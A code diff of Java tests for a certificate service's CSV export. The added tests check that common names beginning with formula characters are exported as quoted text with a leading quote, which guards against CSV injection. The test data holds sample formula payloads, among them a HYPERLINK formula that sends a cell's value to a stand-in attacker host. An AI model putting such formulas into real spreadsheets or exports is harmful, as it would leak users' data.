@@ -47,18 +47,7 @@ class InventoryExportTests extends RunningService {
         assertThat(csv.contentType()).isEqualTo("text/csv;charset=utf-8");
         assertThat(csv.header("Content-Disposition")).isEqualTo("attachment; filename=\"certificates.csv\"");
         assertThat(csv.text()).contains("\r\n").startsWith(String.join(",", InventoryExport.COLUMNS) + "\r\n");
-        Path file = dir.resolve("certificates.csv");
-        Files.write(file, csv.body());
-        Path script = dir.resolve("read.py");
-        Files.writeString(script, """
-                import csv, json, sys
-                with open(sys.argv[1], newline="", encoding="utf-8") as f:
-                    rows = list(csv.DictReader(f, strict=True))
-                print(json.dumps([[r["commonName"], r["status"], r["profile"]] for r in rows], ensure_ascii=True))
-                """);
-        Processes.Result read = Processes.run(List.of(PrometheusScrapeTests.PYTHON, script.toString(), file.toString()));
-        assertThat(read.ok()).as(read.output()).isTrue();
-        JsonNode rows = ApiClient.JSON.readTree(read.stdout());
+        JsonNode rows = readWithPythonCsv(csv.body());
         List<String> commonNames = new ArrayList<>();
         rows.forEach(r -> {
             commonNames.add(r.get(0).asString());
@@ -74,6 +63,54 @@ class InventoryExportTests extends RunningService {
         json.json().forEach(c -> jsonNames.add(c.path("commonName").asString()));
         assertThat(jsonNames).containsExactlyElementsOf(names);
         assertThat(json.text()).doesNotContain("privateKeyPem").doesNotContain("BEGIN");
+    }
+
+    /** The CSV as Python's csv module reads it (strict): [[commonName, status, profile], ...]. */
+    private JsonNode readWithPythonCsv(byte[] body) throws Exception {
+        Path file = dir.resolve("certificates-" + UUID.randomUUID() + ".csv");
+        Files.write(file, body);
+        Path script = dir.resolve("read.py");
+        Files.writeString(script, """
+                import csv, json, sys
+                with open(sys.argv[1], newline="", encoding="utf-8") as f:
+                    rows = list(csv.DictReader(f, strict=True))
+                print(json.dumps([[r["commonName"], r["status"], r["profile"]] for r in rows], ensure_ascii=True))
+                """);
+        Processes.Result read = Processes.run(List.of(PrometheusScrapeTests.PYTHON, script.toString(), file.toString()));
+        assertThat(read.ok()).as(read.output()).isTrue();
+        return ApiClient.JSON.readTree(read.stdout());
+    }
+
+    @Test
+    void namesASpreadsheetWouldRunAsFormulasAreExportedAsTextWithALeadingQuote() throws Exception {
+        // OWASP "CSV Injection": cells starting with = + - @ TAB CR are formulas to Excel, LibreOffice and Sheets
+        List<String> formulas = List.of("=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")", "+1+2", "-2+3", "@SUM(A1:A2)", "=1,2");
+        for (int i = 0; i < formulas.size(); i++) {
+            ApiClient.Response issued = api().post("/api/v1/certificates", "{\"commonName\":" + ApiClient.quote(formulas.get(i))
+                    + ",\"dnsNames\":[\"" + prefix + "-f" + i + ".test\"],\"profile\":\"client\",\"validityDays\":90}");
+            assertThat(issued.status()).as(issued.toString()).isEqualTo(201);
+        }
+        ApiClient.Response csv = api().get("/api/v1/certificates/export?format=csv&sort=issued&q=" + prefix + "-f");
+        assertThat(csv.status()).as(csv.toString()).isEqualTo(200);
+        assertThat(csv.text()).contains("\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"Click\"\")\"")
+                .doesNotContain(",=").doesNotContain(",+").doesNotContain(",@");
+        List<String> read = new ArrayList<>();
+        readWithPythonCsv(csv.body()).forEach(r -> read.add(r.get(0).asString()));
+        assertThat(read).containsExactlyElementsOf(formulas.stream().map(f -> "'" + f).toList());
+        // the JSON export carries the names as they are: JSON is no spreadsheet
+        List<String> json = new ArrayList<>();
+        api().get("/api/v1/certificates/export?format=json&sort=issued&q=" + prefix + "-f").json()
+                .forEach(c -> json.add(c.path("commonName").asString()));
+        assertThat(json).containsExactlyElementsOf(formulas);
+    }
+
+    @Test
+    void fieldsStartingWithTabOrCarriageReturnAreQuotedTextAndOrdinaryFieldsStayAsTheyAre() {
+        assertThat(InventoryExport.field("\tcmd")).isEqualTo("\"'\tcmd\"");
+        assertThat(InventoryExport.field("\r=1")).isEqualTo("\"'\r=1\"");
+        assertThat(InventoryExport.field("a-b@c=d")).isEqualTo("a-b@c=d");
+        assertThat(InventoryExport.field("")).isEmpty();
+        assertThat(InventoryExport.field("2026-11-30T12:00:00Z")).isEqualTo("2026-11-30T12:00:00Z");
     }
 
     @Test
